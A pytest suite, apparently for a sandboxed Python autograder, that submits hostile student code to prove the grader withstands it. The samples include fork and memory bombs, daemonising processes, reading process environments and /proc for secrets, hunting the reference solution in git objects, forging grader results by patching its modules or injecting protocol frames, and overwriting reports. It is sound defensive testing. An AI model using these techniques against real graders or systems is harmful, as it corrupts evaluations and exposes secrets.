"""The adversarial corpus (issue #5): hostile and pathological submissions against the real isolation.

Every case grades a submission made of the reference's student files with one function (or one module)
replaced by hostile code, and asserts that

(a) the grader survives and writes complete reports (every selected check in report.json, report.html);
(b) the hostile code earns nothing: its checks are not ``passed`` and score 0;
(c) the untouched functions of the same submission are graded normally (their checks pass, after the
    hostile ones in the same run);
(d) the specific protection held (no connection, no leaked secret, no process left, files untouched...).

Each case runs with bubblewrap (the real isolation) and, where it makes sense, with ``--no-sandbox`` (the
fallback: resource limits only, a worker running as the grader's own user); the cases that only the
operating-system isolation can stop are skipped there with the reason.
"""
from __future__ import annotations

import json
import os
import re
import signal
import socket
import subprocess
import sys
import textwrap
import threading
import time
import uuid
from pathlib import Path

import pytest

from conftest import ROOT, grade, write_submission
from grader.sandbox import bubblewrap
from exercises.assignment import ASSIGNMENT

REFERENCE_LAYERS = (ROOT / "reference" / "cs231n" / "rnn_layers.py").read_text()
REFERENCE_MODEL = (ROOT / "reference" / "cs231n" / "classifiers" / "rnn.py").read_text()

HOSTILE = ("rnn_layers.rnn_step_forward/notebook", "rnn_layers.rnn_step_forward/hidden")
"""The checks of ``rnn_step_forward``, where most cases put their hostile code."""
CONTROL = ("rnn_layers.word_embedding_forward/notebook", "rnn_layers.word_embedding_forward/hidden",
           "rnn_layers.word_embedding_backward/hidden")
"""Checks of untouched functions of the same file; they run after the hostile ones, in the same grading."""
MODEL = ("classifiers.rnn.CaptioningRNN.loss[rnn]/notebook",)
"""A check needing ``classifiers/rnn.py`` (and ``rnn_layers.py``), for the cases that break that module."""
TIMEOUT = "2"

FALLBACK_REASON = ("--no-sandbox keeps only resource limits and runs the worker as the grader's own user "
                   "(%s here): %%s; only the operating-system isolation can stop it"
                   % ("root" if os.geteuid() == 0 else "uid %d" % os.geteuid()))

BWRAP = pytest.param("bwrap", marks=pytest.mark.skipif(
    bubblewrap() is None, reason="bubblewrap is not usable on this machine (.ci/run installs it)"))


@pytest.fixture(params=[BWRAP, "fallback"])
def mode(request) -> str:
    return request.param


@pytest.fixture
def bwrap_only() -> str:
    if bubblewrap() is None:
        pytest.skip("bubblewrap is not usable on this machine (.ci/run installs it)")
    return "bwrap"


def isolated_only(mode: str, what: str) -> None:
    if mode == "fallback":
        pytest.skip(FALLBACK_REASON % what)


def replace_function(source: str, name: str, body: str) -> str:
    """Swap the body of ``def name(...)`` for ``body`` (code indented by 4 spaces)."""
    start = source.index("def %s(" % name)
    end = source.index("\ndef ", start + 1)
    header = source[start:source.index(":\n", start) + 2]
    return source[:start] + header + textwrap.indent(textwrap.dedent(body), "    ") + "\n" + source[end:]


def hostile_layers(body: str, name: str = "rnn_step_forward", prelude: str = "") -> str:
    """The reference ``rnn_layers.py`` with ``name``'s body replaced (``prelude``: code at module top)."""
    return prelude + "\n" + replace_function(REFERENCE_LAYERS, name, body)


def mode_args(mode: str) -> list[str]:
    return ["--no-sandbox"] if mode == "fallback" else []


def check_complete(out: Path, sub: str, report: dict, selected: tuple[str, ...], mode: str) -> dict[str, dict]:
    """(a): every selected check has a verdict, and every output file is there."""
    for name in ("report.json", "report.html", "results.json", "junit.xml"):
        assert (out / sub / name).is_file() and (out / sub / name).stat().st_size > 0, name
    assert (out / "grades.csv").is_file()
    by_id = {c["id"]: c for c in report["checks"]}
    assert set(by_id) == set(selected)
    assert all(c["status"] in ("passed", "failed", "error", "timeout", "skipped") for c in report["checks"])
    assert all(c["score"] == (c["max_score"] if c["status"] == "passed" else 0) for c in report["checks"])
    html = (out / sub / "report.html").read_text()
    assert all(c.split("/")[0] in html for c in selected)
    isolation = report["grader"]["isolation"]
    assert isolation.startswith("bubblewrap" if mode == "bwrap" else "NOT ISOLATED"), isolation
    return by_id


def run_case(tmp_path: Path, mode: str, layers: str | None = None, model: str | None = None, *,
             hostile: tuple[str, ...] = HOSTILE, control: tuple[str, ...] = CONTROL, timeout: str = TIMEOUT,
             extra: tuple[str, ...] = (), name: str = "hostile", others: tuple[Path, ...] = ()) -> dict:
    """Grade one hostile submission; check (a), (b) and (c); return the report for the case's own (d)."""
    sub = write_submission(tmp_path / name, rnn_layers=layers, rnn=model)
    out = tmp_path / "out"
    selected = hostile + control
    report = grade([sub, *others], out, "--seed", "5", "--timeout", timeout, "--only", ",".join(selected),
                   *mode_args(mode), *extra)[name]
    by_id = check_complete(out, name, report, selected, mode)
    for check in hostile:
        assert by_id[check]["status"] != "passed" and by_id[check]["score"] == 0, by_id[check]
    for check in control:
        assert by_id[check]["status"] == "passed", by_id[check]
    assert report["score"] == sum(by_id[c]["max_score"] for c in control)
    left = wait_until_gone("/grader-%s-" % name)  # the scratch folder is in every worker's command line
    assert not left, "processes of this submission outlived its grading: %s" % left
    return report


def first(report: dict, check: str = HOSTILE[0]) -> dict:
    return next(c for c in report["checks"] if c["id"] == check)


def processes_matching(pattern: str) -> list[tuple[int, str]]:
    """Every live process whose command line contains ``pattern`` (zombies have none and do not count)."""
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                cmdline = Path("/proc/%s/cmdline" % pid).read_bytes().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if pattern in cmdline:
                found.append((int(pid), cmdline))
    return found


def wait_until_gone(pattern: str, seconds: float = 5.0) -> list[tuple[int, str]]:
    deadline = time.monotonic() + seconds
    while (left := processes_matching(pattern)) and time.monotonic() < deadline:
        time.sleep(0.1)
    return left


# ============================================================================================ crashes

CRASHES = {
    "infinite_loop": ("while True:\n    pass\n", "timeout", "stopped after 2 s"),
    "sleep_forever": ("import time\ntime.sleep(10**6)\n", "timeout", "stopped after 2 s"),
    "os_exit": ("import os\nos._exit(0)\n", "error", "exited with code 0"),
    "sys_exit": ("import sys\nsys.exit(0)\n", "error", "SystemExit"),
    "raise_systemexit": ("raise SystemExit\n", "error", "SystemExit"),
    "keyboard_interrupt": ("raise KeyboardInterrupt\n", "error", "KeyboardInterrupt"),
    "segfault": ("import ctypes\nctypes.string_at(0)\n", "error", "killed by signal SIGSEGV"),
    "sigterm_ignored": ("import signal\nfor s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM):\n"
                        "    signal.signal(s, signal.SIG_IGN)\nwhile True:\n    pass\n", "timeout", "stopped after"),
    "c_stack_overflow": ("import sys\nsys.setrecursionlimit(10**9)\ndef f(n):\n    return list(map(f, [n + 1]))\n"
                         "f(0)\n", "error", "killed by signal SIGSEGV"),
}


@pytest.mark.parametrize("case", CRASHES)
def test_crashing_function_fails_alone(tmp_path, mode, case, capfd):
    body, status, words = CRASHES[case]
    report = run_case(tmp_path, mode, hostile_layers(body))
    for check in HOSTILE:
        assert first(report, check)["status"] == status
    assert words in first(report)["message"]
    err = capfd.readouterr().err
    assert ("WARNING: NOT ISOLATED" in err) == (mode == "fallback")


# ============================================================================================ lies
# What comes back must be a plain numeric array of the right shape with finite values; anything else is
# described in words by the worker (object arrays, custom objects never cross) and fails in the grader.

RIGHT = "next_h = np.tanh(x.dot(Wx) + prev_h.dot(Wh) + b)\n"
LIES = {
    "always_equal": ("class AlwaysEqual:\n    def __eq__(self, other):\n        return True\n"
                     "    def __ne__(self, other):\n        return False\n    __hash__ = object.__hash__\n"
                     "return AlwaysEqual(), None\n", "should be a numpy array, got an object of type"),
    "array_protocol_right": (RIGHT + "class Right:\n    def __array__(self, dtype=None, copy=None):\n"
                             "        return next_h\nreturn Right(), None\n", "should be a numpy array"),
    "array_protocol_lies": (RIGHT + "class Liar:\n    calls = 0\n    shape = next_h.shape\n    dtype = next_h.dtype\n"
                            "    def __array__(self, dtype=None, copy=None):\n        Liar.calls += 1\n"
                            "        return next_h if Liar.calls == 1 else np.zeros((3, 3))\n"
                            "    def __eq__(self, other):\n        return np.ones(next_h.shape, bool)\n"
                            "return Liar(), None\n", "should be a numpy array"),
    "ndarray_subclass_eq": (RIGHT + "class Sneaky(np.ndarray):\n    def __eq__(self, other):\n"
                            "        return np.ones(self.shape, bool)\n    def __sub__(self, other):\n"
                            "        return np.zeros(self.shape)\n    __rsub__ = __sub__\n"
                            "return np.zeros_like(next_h).view(Sneaky), None\n", "rel_error 1"),
    "nan": (RIGHT + "next_h[0, 0] = np.nan\nreturn next_h, None\n", "NaN or infinite"),
    "inf": (RIGHT + "next_h[-1, -1] = np.inf\nreturn next_h, None\n", "NaN or infinite"),
    "object_dtype": (RIGHT + "return next_h.astype(object), None\n", "dtype object"),
    "complex_dtype": (RIGHT + "return next_h.astype(complex), None\n", "dtype complex128"),
    "bool_dtype": (RIGHT + "return next_h > 0, None\n", "floating-point dtype, got bool"),
    "wrong_shape": (RIGHT + "return next_h.T, None\n", "has shape"),
    "broadcast_10gb": ("return np.broadcast_to(np.float64(0.5), (50000, 25000)), None\n", "over the limit"),
    "as_strided_10gb": ("view = np.lib.stride_tricks.as_strided(np.zeros(1), shape=(2**20, 2**17 // 8 * 10), "
                        "strides=(0, 0))\nreturn view, None\n", "over the limit"),
    "generator": (RIGHT + "return (row for row in next_h), None\n", "got an object of type generator"),
    "not_a_tuple": (RIGHT + "return next_h\n", "must return a tuple"),
    "hard_coded_notebook_values": ("return np.array([\n    [-0.58172089, -0.50182032, -0.41232771, -0.31410098],\n"
                                   "    [ 0.66854692,  0.79562378,  0.87755553,  0.92795967],\n"
                                   "    [ 0.97934501,  0.99144213,  0.99646691,  0.99854353]]), None\n", "has shape"),
}


@pytest.mark.parametrize("case", LIES)
def test_lying_return_value_earns_nothing(tmp_path, mode, case):
    body, words = LIES[case]
    hostile, control = HOSTILE, CONTROL
    if case == "hard_coded_notebook_values":  # the notebook's printed values are public: hidden inputs catch it
        hostile, control = HOSTILE[1:], HOSTILE[:1] + CONTROL
    report = run_case(tmp_path, mode, hostile_layers(body), hostile=hostile, control=control)
    assert first(report, hostile[0])["status"] == "failed"
    assert words in first(report, hostile[0])["message"], first(report, hostile[0])["message"]


BACKWARD = ("rnn_layers.rnn_step_backward/numeric-gradient", "rnn_layers.rnn_step_backward/hidden")
WRAP_BACKWARD = ("\n_real_rnn_step_backward = rnn_step_backward\n\n\ndef rnn_step_backward(dnext_h, cache):\n"
                 "    dx, dprev_h, dWx, dWh, db = _real_rnn_step_backward(dnext_h, cache)\n")
GRADIENT_LIES = {
    "nan_in_one_gradient": ("    dprev_h = dprev_h.copy()\n    dprev_h[0, 0] = np.nan\n"
                            "    return dx, dprev_h, dWx, dWh, db\n", "dprev_h contains 1 NaN"),
    "inf_in_the_last_gradient": ("    return dx, dprev_h, dWx, dWh, db + np.inf\n", "db contains"),
    "one_gradient_short": ("    return dx, dprev_h, dWx, dWh\n", "must return a tuple (dx, dprev_h, dWx, dWh, db)"),
    "gradients_as_float32_noise": ("    return tuple((g + 1e-3).astype(np.float32) for g in (dx, dprev_h, dWx, dWh, db))\n",
                                   "rel_error"),
}


@pytest.mark.parametrize("case", GRADIENT_LIES)
def test_lying_gradients_earn_nothing(tmp_path, mode, case):
    """The forward is right; the backward lies in one of its five outputs."""
    body, words = GRADIENT_LIES[case]
    report = run_case(tmp_path, mode, REFERENCE_LAYERS + WRAP_BACKWARD + body, hostile=BACKWARD)
    for check in BACKWARD:
        assert first(report, check)["status"] == "failed" and words in first(report, check)["message"], \
            first(report, check)


# ============================================================================================ tampering
# Student code owns its worker: it can rewrite numpy, the builtins, the worker's own functions. None of it
# reaches the grader, which compares the values it receives with its own numpy in its own process.

ZEROS = "return np.zeros((x.shape[0], Wh.shape[0])), None\n"
TAMPERING = {
    "patch_numpy": ("np.allclose = lambda *a, **k: True\nnp.array_equal = lambda *a, **k: True\n"
                    "np.testing.assert_allclose = lambda *a, **k: None\nnp.max = lambda *a, **k: 0.0\n"
                    "np.abs = lambda x, *a, **k: np.zeros_like(x)\nnp.isfinite = lambda x, *a, **k: True\n" + ZEROS),
    "patch_grader_modules": (
        "import sys\nimport grader.compare, grader.checks, grader.worker.protocol, grader.worker.server\n"
        "grader.compare.rel_error = lambda *a, **k: 0.0\n"
        "grader.compare.compare_outputs = lambda *a, **k: (0.0, 'all match', {})\n"
        "for server in (grader.worker.server, sys.modules['__main__']):\n"
        "    server.plain = lambda value, depth=0: {'ok': True, 'passed': True, 'score': 100}\n" + ZEROS),
    "patch_protocol_encode": (
        "import json, sys\nimport grader.worker.protocol as protocol\n"
        "def forged(value, to_handle=None):\n"
        "    return json.dumps({'ok': True, 'value': 'passed', 'passed': True, 'status': 'passed', "
        "'score': 100}).encode(), []\n"
        "protocol.encode = forged\n" + ZEROS),
    "patch_worker_class": (
        "import sys\nworker = sys.modules['__main__'].Worker\n"
        "worker.shape_result = lambda self, result, keep: {'__nd__': 0, 'passed': True}\n"
        "worker.describe_error = lambda self, exc: {'type': 'Passed', 'message': 'all good', 'traceback': ''}\n"
        + ZEROS),
    "patch_builtins": ("import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.len = lambda *a: 0\n"
                       "builtins.type = lambda *a: dict\n" + ZEROS),
    "patch_builtins_quietly": ("import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.max = lambda *a, **k: 0\n"
                               + ZEROS),
}
SEEN = {"patch_numpy": "numpy.allclose", "patch_grader_modules": "the worker's plain",
        "patch_protocol_encode": None,  # its first answer already breaks the protocol: the worker is gone
        "patch_worker_class": "the worker's Worker.shape_result", "patch_builtins": None,  # the worker crashes
        "patch_builtins_quietly": "builtins.abs"}


@pytest.mark.parametrize("case", TAMPERING)
def test_tampering_inside_the_worker_changes_no_verdict(tmp_path, mode, case):
    """The tampered worker is replaced after the check, so the next checks run in an intact one."""
    report = run_case(tmp_path, mode, hostile_layers(TAMPERING[case]))
    assert all(first(report, c)["status"] in ("failed", "error") for c in HOSTILE)
    if SEEN[case]:
        taint = first(report)["details"]["leftovers"]
        assert "replaced what its worker relies on (" in taint and SEEN[case] in taint, taint


# ============================================================================================ the protocol
# The worker's argv names its protocol pipes; student code can write to them, or to its stdout/stderr.

FRAME = ("import json, struct, sys\n"
         "def frame(value):\n"
         "    header = json.dumps(value).encode()\n"
         "    return struct.pack('!I', len(header)) + header\n"
         "FORGED = frame({'__dict__': [['ok', True], ['value', {'__tuple__': [[[0.5] * 4] * 3, None]}], "
         "['passed', True], ['status', 'passed'], ['score', 100]]})\n"
         "WRITE_FD = int(sys.argv[-1])\n")
PROTOCOL = {
    "garbage_on_protocol_fd": (FRAME + "os.write(WRITE_FD, b'\\xff' * 65536)\n" + ZEROS, "error", "broke the protocol"),
    "forged_frame_on_protocol_fd": (FRAME + "os.write(WRITE_FD, FORGED)\n" + ZEROS, "error", "out of turn"),
    "forged_frames_then_exit": (FRAME + "os.write(WRITE_FD, FORGED * 50)\nos._exit(0)\n", "error", "out of turn"),
    "forged_frame_on_stdout_stderr": (FRAME + "os.write(1, FORGED)\nos.write(2, FORGED)\nprint(FORGED)\n"
                                      "sys.stdout.flush()\n" + ZEROS, "failed", "rel_error"),
    "protocol_fds_closed": ("import os, sys\nos.close(int(sys.argv[-1]))\nos.close(int(sys.argv[-2]))\n" + ZEROS,
                            "error", "exited with code"),
    "protocol_pipe_made_non_blocking": ("import os, sys\nos.set_blocking(int(sys.argv[-2]), False)\n"
                                        "try:\n    os.read(int(sys.argv[-2]), 1 << 20)\nexcept OSError:\n    pass\n"
                                        + ZEROS, "failed", "rel_error"),
    "forged_frame_with_the_right_id": (  # read from the worker's own frames: as good as returning the value
        FRAME + "frame_ = sys._getframe()\nwhile 'request_id' not in frame_.f_locals:\n    frame_ = frame_.f_back\n"
        "os.write(WRITE_FD, frame({'__dict__': [['ok', True], ['id', frame_.f_locals['request_id']], "
        "['value', {'__tuple__': [[[0.5] * 4] * 3, None]}]]}))\n" + ZEROS, "failed", "got a list of 3 items"),
}


@pytest.mark.parametrize("case", PROTOCOL)
def test_protocol_channel_cannot_be_hijacked(tmp_path, mode, case):
    body, status, words = PROTOCOL[case]
    report = run_case(tmp_path, mode, hostile_layers("import os\n" + body))
    check = first(report)
    assert check["status"] == status and words in check["message"], check
    if "stdout" in case:
        assert "passed" in check["details"]["stdout"]  # shown as what the student printed, nothing more
    if case == "protocol_pipe_made_non_blocking":
        assert "its protocol pipes or standard streams" in check["details"]["leftovers"]
    if case == "forged_frame_with_the_right_id":  # its real answer comes next, answering no request
        assert "out of turn" in first(report, HOSTILE[1])["message"]


# ============================================================================================ whole modules
# Hostile code at the top of classifiers/rnn.py: that module's checks fail, rnn_layers.py is graded normally
# (classifiers.rnn is imported first, so the layers are graded after the damage).

MODULES = {
    "syntax_error": ("def broken(:\n", "error", "SyntaxError"),
    "import_error": ("import tensorflow_addons_that_is_not_there\n", "error", "ModuleNotFoundError"),
    "exit_at_import": ("import os\nos._exit(3)\n", "error", "exited with code 3"),
    "loop_at_import": ("while True:\n    pass\n", "error", "did not finish within 2 s"),
    "segfault_at_import": ("import ctypes\nctypes.string_at(0)\n", "error", "SIGSEGV"),
    "system_exit_at_import": ("raise SystemExit(0)\n", "error", "SystemExit"),
}


@pytest.mark.parametrize("case", MODULES)
def test_hostile_module_fails_only_its_own_checks(tmp_path, mode, case):
    top, status, words = MODULES[case]
    report = run_case(tmp_path, mode, model=top + REFERENCE_MODEL, hostile=MODEL)
    check = first(report, MODEL[0])
    assert check["status"] == status, check
    assert "could not be imported" in check["message"] or "importing" in check["message"], check
    assert words in check["message"], check


# ============================================================================================ processes


def test_fork_bomb_is_bounded_and_ends_with_the_worker(tmp_path, mode):
    """Processes until the system refuses one: it must refuse early (the task limit, as the workers' own user),
    and everything started must end with the worker. The loop stops at 3000 so that a broken limit shows as
    a failure rather than a machine brought down."""
    isolated_only(mode, "root ignores RLIMIT_NPROC, so a fork bomb would take the machine down")
    body = textwrap.dedent("""\
        import os, time
        children = 0
        try:
            while children < 3000:
                if os.fork() == 0:
                    time.sleep(60)
                    os._exit(0)
                children += 1
        except OSError as e:
            raise RuntimeError("fork refused after %d children: %s" % (children, e))
        raise RuntimeError("never refused: %d children" % children)
        """)
    report = run_case(tmp_path, mode, hostile_layers(body), hostile=HOSTILE[:1], timeout="10")
    refused = re.search(r"fork refused after (\d+) children", first(report)["message"])
    assert refused and int(refused.group(1)) < 512, first(report)["message"]
    assert "left threads or processes running" in first(report)["details"]["leftovers"]
    # run_case saw none of them left: forked children keep the worker's command line, scratch folder included


def daemon_body(tag: str) -> str:
    """Three ways to start a process meant to outlive the check: ``sleep`` with the tag as its argument."""
    return textwrap.dedent("""\
        import os, subprocess
        subprocess.Popen(["sleep", "{tag}1"], start_new_session=True, stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, close_fds=True)
        if os.fork() == 0:  # the classic double fork
            os.setsid()
            if os.fork() == 0:
                os.execvp("sleep", ["sleep", "{tag}2"])
            os._exit(0)
        os.wait()
        subprocess.Popen(["setsid", "sleep", "{tag}3"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL)
        """).format(tag=tag) + ZEROS


def test_daemons_do_not_outlive_the_worker(tmp_path, mode):
    tag = "4242.%d" % (uuid.uuid4().int % 10**6)
    report = run_case(tmp_path, mode, hostile_layers(daemon_body(tag)))
    assert first(report)["status"] == "failed"
    assert "left threads or processes running" in first(report)["details"]["leftovers"]
    left = wait_until_gone("sleep " + tag)
    for pid, _ in left:  # clean up before failing
        os.kill(pid, signal.SIGKILL)
    assert not left, left


THREAD_AT_IMPORT = textwrap.dedent("""\
    import threading, time, os, sys

    def _spin():
        while True:
            sys.stdout.write("spinning thread\\n")
            time.sleep(0.01)

    threading.Thread(target=_spin, daemon=True).start()
    threading.Thread(target=lambda: time.sleep(10**6)).start()  # not a daemon: would block the exit
    """)


def test_thread_started_at_import_ends_with_each_check(tmp_path, mode):
    """All functions are the reference's: each check passes, in a fresh worker after the threads are seen."""
    report = run_case(tmp_path, mode, THREAD_AT_IMPORT + REFERENCE_LAYERS, hostile=(), control=HOSTILE + CONTROL)
    assert all("left threads or processes running" in c["details"].get("leftovers", "") for c in report["checks"])


@pytest.mark.parametrize("touch", [False, True], ids=["reserved", "filled"])
def test_memory_bomb_is_a_memory_error_and_the_grader_stays_small(tmp_path, mode, touch):
    """Allocating ever more: the worker's address-space limit (3 GB) refuses, the grader does not notice.
    ``reserved`` only reserves (np.empty: the limit answers at once); ``filled`` writes every page."""
    allocate = "bytearray(256 * 2**20)" if touch else "np.empty(32 * 2**20)"
    body = textwrap.dedent("""\
        hoard = []
        try:
            while True:
                hoard.append({allocate})
        except MemoryError:
            got = len(hoard) * 256
            del hoard
            raise MemoryError("refused after %d MB" % got)
        """).format(allocate=allocate)
    hostile = HOSTILE[:1] if touch else HOSTILE  # filling 3 GB takes seconds: once is enough
    report, grader_rss_mb = grade_in_subprocess(tmp_path, mode, hostile_layers(body), selected=hostile + CONTROL,
                                                timeout="15" if touch else "5")
    for check in hostile:
        refused = re.search(r"MemoryError: refused after (\d+) MB", first(report, check)["message"])
        assert refused and int(refused.group(1)) < 3072, first(report, check)
    assert grader_rss_mb < 400, grader_rss_mb


@pytest.mark.parametrize("lift_the_worker_limit", [False, True], ids=["as_is", "worker_limit_lifted"])
def test_huge_repeated_return_value_cannot_swamp_the_grader(tmp_path, mode, lift_the_worker_limit):
    """One 400 MB array returned 8 times costs the worker 400 MB but is 3.2 GB on the wire: the worker sends at
    most 1 GiB of arrays per message (here two of them) and describes the rest; a worker whose limit the
    student lifted is cut off by the grader's own check of the message's sizes, before it allocates."""
    lift = "import grader.worker.protocol as protocol\nprotocol.MAX_ARRAY_BYTES = 2**40\n"
    body = (lift if lift_the_worker_limit else "") + "big = np.ones(50 * 2**20)\nreturn (big,) * 8, None\n"
    report, grader_rss_mb = grade_in_subprocess(tmp_path, mode, hostile_layers(body),
                                                selected=HOSTILE[:1] + CONTROL, timeout="20")
    if lift_the_worker_limit:
        assert first(report)["status"] == "error"
        assert "broke the protocol (arrays of more than 1073741824 bytes in one message)" in first(report)["message"]
        assert grader_rss_mb < 400, grader_rss_mb
    else:
        assert first(report)["status"] == "failed"
        assert "should be a numpy array, got a tuple of 8 items" in first(report)["message"]
        assert grader_rss_mb < 1300, grader_rss_mb


GRADE_AND_MEASURE = """\
import json, re, sys
from grader.cli import main
code = main(sys.argv[1:])
with open("/proc/self/status") as f:  # this process image's peak (ru_maxrss would count the forking parent's too)
    peak_kb = int(re.search(r"VmHWM:\\s+(\\d+) kB", f.read()).group(1))
print(json.dumps({"code": code, "maxrss_mb": peak_kb / 1024}))
"""


def grade_in_subprocess(tmp_path: Path, mode: str, layers: str, env: dict | None = None,
                        selected: tuple[str, ...] = HOSTILE + CONTROL, seed: str = "5",
                        timeout: str = "5") -> tuple[dict, float]:
    """Grade in a separate grader process (its own peak memory, its own command line and environment)."""
    sub = write_submission(tmp_path / "hostile", rnn_layers=layers)
    out = tmp_path / "out"
    proc = subprocess.run([sys.executable, "-c", GRADE_AND_MEASURE, "grade", str(sub), "--out", str(out),
                           "--seed", seed, "--timeout", timeout, "--only", ",".join(selected), *mode_args(mode)],
                          capture_output=True, text=True, timeout=300, cwd=ROOT,
                          env=env if env is not None else dict(os.environ))
    assert proc.returncode == 0, proc.stderr[-3000:]
    result = json.loads(proc.stdout.strip().splitlines()[-1])
    report = json.loads((out / "hostile" / "report.json").read_text())
    by_id = check_complete(out, "hostile", report, selected, mode)
    for check in selected:
        if check in CONTROL:
            assert by_id[check]["status"] == "passed", by_id[check]
        else:
            assert by_id[check]["status"] != "passed", by_id[check]
    assert not wait_until_gone("/grader-hostile-"), "processes of this submission outlived its grading"
    return report, result["maxrss_mb"]


# ============================================================================================ output


def test_printing_100_mb_is_capped_never_fails_the_code_and_stays_out_of_the_grader_output(tmp_path, mode, capfd):
    """Past the worker's 64 MB file-size limit: the first part is kept, the rest dropped with a note, and the
    function's (correct) result counts."""
    printing = ("    import sys\n    block = 'x' * 80_000 + '\\n'\n    for i in range(1300):\n"
                "        sys.stdout.write('student output %d ' % i + block)\n"
                "        print('to stderr', i, file=sys.stderr)\n")
    step = "    next_h = np.tanh(x.dot(Wx) + prev_h.dot(Wh) + b)\n"
    assert REFERENCE_LAYERS.count(step) == 1
    report = run_case(tmp_path, mode, REFERENCE_LAYERS.replace(step, printing + step), hostile=(),
                      control=HOSTILE + CONTROL, timeout="20")
    captured = capfd.readouterr()
    assert "student output" not in captured.out + captured.err
    check = first(report)
    printed = check["details"]["stdout"]
    assert printed.startswith("student output 0 ") and len(printed) < 5000 and printed.endswith("[... cut ...]")
    assert len((tmp_path / "out" / "hostile" / "report.json").read_text()) < 200_000


# ============================================================================================ what it may see

CHEAT_WITH_THE_REFERENCE = textwrap.dedent('''\
    import glob, os, subprocess, zlib
    found = {{}}
    def steal(path):
        if path.startswith(os.path.dirname(os.getcwd()) + "/"):
            return  # its own staged package
        try:
            with open(path) as f:
                found[path] = f.read()
            print("READ", path)
        except OSError as e:
            print("BLOCKED", path, type(e).__name__)
    for path in {paths!r}:
        steal(path)
    for pattern in {patterns!r}:
        for path in glob.glob(pattern, recursive=True):
            steal(path)
    for root in {checkouts!r}:  # the reference in the project's git history
        try:
            source = subprocess.run(["git", "-c", "safe.directory=*", "--git-dir", root + "/.git", "show",
                                     "HEAD:reference/cs231n/rnn_layers.py"], capture_output=True, text=True,
                                    timeout=5).stdout
            if "def rnn_step_forward" in source:
                found["git"] = source
                print("READ git history of", root)
        except Exception as e:
            print("BLOCKED git", type(e).__name__)
        for obj in glob.glob(root + "/.git/objects/??/*"):
            try:
                data = zlib.decompress(open(obj, "rb").read())
            except Exception:
                continue
            if data.startswith(b"blob") and b"next_h = np.tanh" in data:
                found["object"] = data.split(b"\\0", 1)[1].decode()
                print("READ a git object", obj)
    for source in found.values():
        if "def rnn_step_forward" in source and "raise" not in source.split("def rnn_step_forward")[1][:200]:
            namespace = {{}}
            exec(source, namespace)
            return namespace["rnn_step_forward"](x, prev_h, Wx, Wh, b)
    ''') + ZEROS


def test_reference_solutions_are_not_visible(tmp_path, mode):
    """The cheat: find the reference's rnn_layers.py (installed copy, checkout, git history) and call it."""
    isolated_only(mode, "the worker reads whatever the grader's user can read")
    checkout = ASSIGNMENT.reference.parent
    body = CHEAT_WITH_THE_REFERENCE.format(
        paths=[str(ASSIGNMENT.reference / "cs231n" / "rnn_layers.py"), str(ROOT / "submissions" / "reference" / "cs231n"
                                                                   / "rnn_layers.py")],
        patterns=[str(checkout / "*" / "cs231n" / "rnn_layers.py"), str(checkout / "*" / "*" / "cs231n" / "rnn_layers.py"),
                  "/tmp/**/rnn_layers.py", "/home/**/rnn_layers.py"],
        checkouts=[str(checkout), str(ROOT)])
    report = run_case(tmp_path, mode, hostile_layers(body))
    printed = first(report)["details"].get("stdout", "")
    assert "READ" not in printed, printed
    assert "BLOCKED" in printed


SNOOP = textwrap.dedent('''\
    import os, glob
    print("ENV", dict(os.environ))
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for what in ("cmdline", "environ"):
            try:
                print("PROC", pid, what, open("/proc/%s/%s" % (pid, what), "rb").read().replace(b"\\0", b" "))
            except Exception as e:
                print("PROC", pid, what, type(e).__name__)
    for folder in ({cache!r}, "/root/.cache"):
        try:
            print("CACHE", folder, os.listdir(folder))
        except OSError as e:
            print("NO CACHE", folder, type(e).__name__)
    raise RuntimeError("snooped")
    ''')


def test_secrets_and_the_hidden_seed_stay_out_of_reach(tmp_path, bwrap_only):
    """A grader process of its own with a secret in its environment and the hidden seed on its command line:
    student code sees neither (own PID namespace, scrubbed environment), nor the synthetic data cache."""
    from exercises.captioning.data import _cache_root

    secret, seed = "s3cr3t-%s" % uuid.uuid4().hex, "918273645"
    env = dict(os.environ, GRADER_TEST_SECRET=secret)
    report, _ = grade_in_subprocess(tmp_path, "bwrap", hostile_layers(SNOOP.format(cache=str(_cache_root()))),
                                    env=env, seed=seed)
    printed = first(report)["details"]["stdout"]
    assert "ENV {" in printed and "PROC" in printed
    assert secret not in printed and seed not in printed
    assert "NO CACHE" in printed and "\nCACHE" not in printed
    assert set(re.findall(r"PROC (\d+) cmdline", printed)) == {"1", "2"}  # bubblewrap and the worker only
    for path in (tmp_path / "out").rglob("*"):
        if path.is_file():
            assert secret not in path.read_text(errors="replace"), path


def test_environment_secret_is_not_passed_to_the_worker(tmp_path, mode, monkeypatch):
    secret = "s3cr3t-%s" % uuid.uuid4().hex
    monkeypatch.setenv("GRADER_TEST_SECRET", secret)
    body = "import os\nprint(dict(os.environ))\nraise RuntimeError(os.environ.get('GRADER_TEST_SECRET', 'none'))\n"
    report = run_case(tmp_path, mode, hostile_layers(body))
    assert first(report)["message"].endswith("RuntimeError: none")
    for path in (tmp_path / "out").rglob("*"):
        if path.is_file():
            assert secret not in path.read_text(errors="replace"), path


# ============================================================================================ what it may touch


def test_output_and_submission_folders_cannot_be_written(tmp_path, mode):
    """A forged report, a forged grades.csv, a rewritten submission: none of it lands."""
    isolated_only(mode, "the worker may write wherever the grader's user may")
    out, sub = tmp_path / "out", tmp_path / "hostile"
    out.mkdir()
    (out / "grades.csv").write_text("earlier run\n")
    body = textwrap.dedent('''\
        import json, os
        forged = {{"score": 1000, "checks": []}}
        for path, text in [({report!r}, json.dumps(forged)), ({grades!r}, "hostile,1000\\n"),
                           ({marker!r}, "x"), ({source!r}, "# rewritten\\n"), ({sibling!r}, "x")]:
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "w") as f:
                    f.write(text)
                print("WROTE", path)
            except OSError as e:
                print("BLOCKED", path, type(e).__name__)
        ''').format(report=str(out / "hostile" / "report.json"), grades=str(out / "grades.csv"),
                    marker=str(out / "owned.txt"), source=str(sub / "cs231n" / "rnn_layers.py"),
                    sibling=str(tmp_path / "another_student" / "cs231n" / "rnn_layers.py")) + ZEROS
